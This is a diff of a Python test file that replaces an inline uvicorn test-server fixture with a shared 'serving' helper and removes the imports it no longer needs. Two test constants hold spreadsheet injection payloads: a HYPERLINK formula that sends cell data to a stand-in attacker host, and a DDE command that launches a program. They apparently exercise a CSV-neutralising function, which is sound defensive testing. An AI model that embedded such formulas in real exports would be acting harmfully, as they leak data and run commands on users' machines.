@@ -10,14 +10,10 @@ import csv
 import datetime as dt
 import io
 import json
-import socket
-import threading
-import time
 from collections.abc import Iterator
 from pathlib import Path
 from typing import Any
 
-import httpx
 import pandas as pd
 import pytest
 from typer.testing import CliRunner
@@ -28,6 +24,7 @@ from tenure.app.store import Store
 from tenure.cli import app
 from tenure.data.csv_safe import frame_to_csv, neutralise
 from tenure.workspace import Workspace
+from tests.served import serving
 
 LINK = '=HYPERLINK("http://evil.example/?d="&A1,"open")'
 DDE = "+cmd|' /C calc'!A0"
@@ -140,7 +137,6 @@ CHROMIUM = "/usr/bin/chromium"
 
 @pytest.fixture
 def server(tmp_path: Path, db: str) -> Iterator[dict[str, Any]]:
-    import uvicorn
 
     from tenure.api.app import create_app
 
@@ -161,23 +157,8 @@ def server(tmp_path: Path, db: str) -> Iterator[dict[str, Any]]:
     )
     store = Store(f"sqlite:///{tmp_path / 'app.db'}")
     key = create_key(store, "browser", "viewer")
-    with socket.socket() as probe:
-        probe.bind(("127.0.0.1", 0))
-        port = probe.getsockname()[1]
-    config = uvicorn.Config(create_app(ws, store), host="127.0.0.1", port=port, log_level="warning")
-    instance = uvicorn.Server(config)
-    thread = threading.Thread(target=instance.run, daemon=True)
-    thread.start()
-    base = f"http://127.0.0.1:{port}"
-    for _ in range(100):
-        try:
-            httpx.get(base + "/health", timeout=1)
-            break
-        except httpx.HTTPError:
-            time.sleep(0.1)
-    yield {"base": base, "key": key}
-    instance.should_exit = True
-    thread.join(timeout=10)
+    with serving(create_app(ws, store)) as base:
+        yield {"base": base, "key": key}
     ws.close()
     store.dispose()
 
